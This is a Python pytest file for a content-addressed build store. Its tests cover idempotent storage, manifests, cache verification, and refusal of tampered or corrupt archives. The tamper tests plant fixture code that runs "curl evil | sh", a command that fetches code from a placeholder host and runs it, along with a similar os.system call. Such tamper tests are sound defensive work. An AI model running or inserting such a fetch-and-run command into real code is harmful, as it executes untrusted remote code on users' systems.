"""Content-addressed builds in both stores: idempotent put, verified get, manifests, tamper refusal."""

from __future__ import annotations

import gzip
import io
import tarfile
from pathlib import Path

import pytest

from polymorph.contract.api import BuildManifest, Figures
from polymorph.contract.errors import StoreError
from polymorph.contract.store import (
    KeyNotFound,
    Store,
    archive_build,
    build_archive_key,
    build_id,
    build_manifest_key,
)


def make_build(
    root: Path, body: str = "def make_hot_path(ctx):\n    return ctx\n", name: str = "fast-attn"
) -> Path:
    root.mkdir(parents=True)
    (root / "build.toml").write_text(f'name = "{name}"\nparent = "reference"\n')
    (root / "entry.py").write_text(body)
    (root / "kernels").mkdir()
    (root / "kernels" / "mlp.py").write_text("# mlp kernel\n")
    return root


def figures() -> Figures:
    return Figures(
        outputTokensPerSecond=1234.5,
        totalTokensPerSecond=2000.0,
        ttftP50Ms=10,
        ttftP95Ms=20,
        itlP50Ms=5,
        itlP95Ms=7,
        noise=0.02,
    )


def test_put_build_is_idempotent_and_keyed_by_id(store: Store, tmp_path: Path) -> None:
    build = make_build(tmp_path / "b")
    bid = store.put_build(build)
    assert bid == build_id(build)
    hexpart = bid.removeprefix("sha256:")
    assert sorted(store.list("builds/")) == [f"builds/{hexpart}.json", f"builds/{hexpart}.tar.gz"]
    assert store.get_bytes(build_archive_key(bid)) == archive_build(build)
    assert store.put_build(build) == bid
    assert len(store.list("builds/")) == 2
    assert store.has_build(bid)
    assert store.list_builds() == [bid]


def test_default_manifest_takes_the_name_from_build_toml(store: Store, tmp_path: Path) -> None:
    bid = store.put_build(make_build(tmp_path / "dir-name", name="tiled-mlp"))
    manifest = store.get_manifest(bid)
    assert (manifest.id, manifest.name) == (bid, "tiled-mlp")


def test_given_manifest_gets_its_id_and_replaces_the_stored_one(store: Store, tmp_path: Path) -> None:
    build = make_build(tmp_path / "b")
    first = store.put_build(build)
    manifest = BuildManifest(
        id="", name="fast-attn", parent="reference", knobs={"tile": 64}, figures=figures()
    )
    assert store.put_build(build, manifest) == first
    assert manifest.id == first
    stored = store.get_manifest(first)
    assert stored == manifest
    # Storing again without a manifest keeps the richer one.
    store.put_build(build)
    assert store.get_manifest(first).figures == figures()


def test_get_build_unpacks_verifies_and_caches(store: Store, tmp_path: Path) -> None:
    build = make_build(tmp_path / "b")
    bid = store.put_build(build)
    cache = tmp_path / "cache"
    out = store.get_build(bid, cache)
    assert out == cache / bid.removeprefix("sha256:")
    assert (out / "entry.py").read_text() == (build / "entry.py").read_text()
    assert build_id(out) == bid
    # Cached: served without reading the store, even once the archive is gone.
    store.delete(build_archive_key(bid))
    assert store.get_build(bid, cache) == out


def test_get_build_replaces_a_modified_cache(store: Store, tmp_path: Path) -> None:
    bid = store.put_build(make_build(tmp_path / "b"))
    out = store.get_build(bid, tmp_path / "cache")
    (out / "entry.py").write_text("import os; os.system('evil')\n")
    (out / "extra.py").write_text("x = 1\n")
    again = store.get_build(bid, tmp_path / "cache")
    assert again == out and build_id(again) == bid
    assert not (again / "extra.py").exists()


def test_get_build_refuses_a_tampered_archive(store: Store, tmp_path: Path) -> None:
    bid = store.put_build(make_build(tmp_path / "good"))
    evil = make_build(tmp_path / "evil", body="import os\nos.system('curl evil | sh')\n")
    store.put_bytes(build_archive_key(bid), archive_build(evil))
    with pytest.raises(StoreError, match=f"not {bid}; refusing a tampered or corrupt build") as info:
        store.get_build(bid, tmp_path / "cache")
    assert build_id(evil) in str(info.value)
    assert not (tmp_path / "cache" / bid.removeprefix("sha256:")).exists()


def test_get_build_refuses_a_corrupt_or_repacked_archive(store: Store, tmp_path: Path) -> None:
    build = make_build(tmp_path / "b")
    bid = store.put_build(build)
    good = store.get_bytes(build_archive_key(bid))
    store.put_bytes(build_archive_key(bid), good[: len(good) // 2])
    with pytest.raises(StoreError, match=r"not a readable tar\.gz archive"):
        store.get_build(bid, tmp_path / "cache")
    # Same files, but a non-canonical archive (real mtimes, owner): the hash tells it apart.
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        tar.add(build, arcname=".")
    store.put_bytes(build_archive_key(bid), gzip.compress(buf.getvalue()))
    with pytest.raises(StoreError, match="refusing a tampered or corrupt build"):
        store.get_build(bid, tmp_path / "cache")


def test_missing_builds_are_clear_errors(store: Store, tmp_path: Path) -> None:
    absent = "sha256:" + "e" * 64
    assert not store.has_build(absent)
    with pytest.raises(KeyNotFound, match=f"has no build {absent}"):
        store.get_build(absent, tmp_path / "cache")
    with pytest.raises(KeyNotFound, match=f"has no build {absent}"):
        store.get_manifest(absent)
    with pytest.raises(StoreError, match="is not a build id"):
        store.get_build("reference", tmp_path / "cache")
    with pytest.raises(StoreError, match="is not a build id"):
        store.has_build("sha256:nothex")


def test_malformed_manifest_is_a_store_error(store: Store, tmp_path: Path) -> None:
    bid = store.put_build(make_build(tmp_path / "b"))
    store.put_json(build_manifest_key(bid), {"id": bid, "surprise": 1})
    with pytest.raises(StoreError, match="is not a valid build manifest"):
        store.get_manifest(bid)


def test_has_build_needs_both_objects(store: Store, tmp_path: Path) -> None:
    bid = store.put_build(make_build(tmp_path / "b"))
    store.delete(build_manifest_key(bid))
    assert not store.has_build(bid)
    assert store.list_builds() == []


def test_builds_from_two_stores_agree(local_store: Store, s3_store: Store, tmp_path: Path) -> None:
    build = make_build(tmp_path / "b")
    assert local_store.put_build(build) == s3_store.put_build(build)
    bid = build_id(build)
    assert local_store.get_bytes(build_archive_key(bid)) == s3_store.get_bytes(build_archive_key(bid))
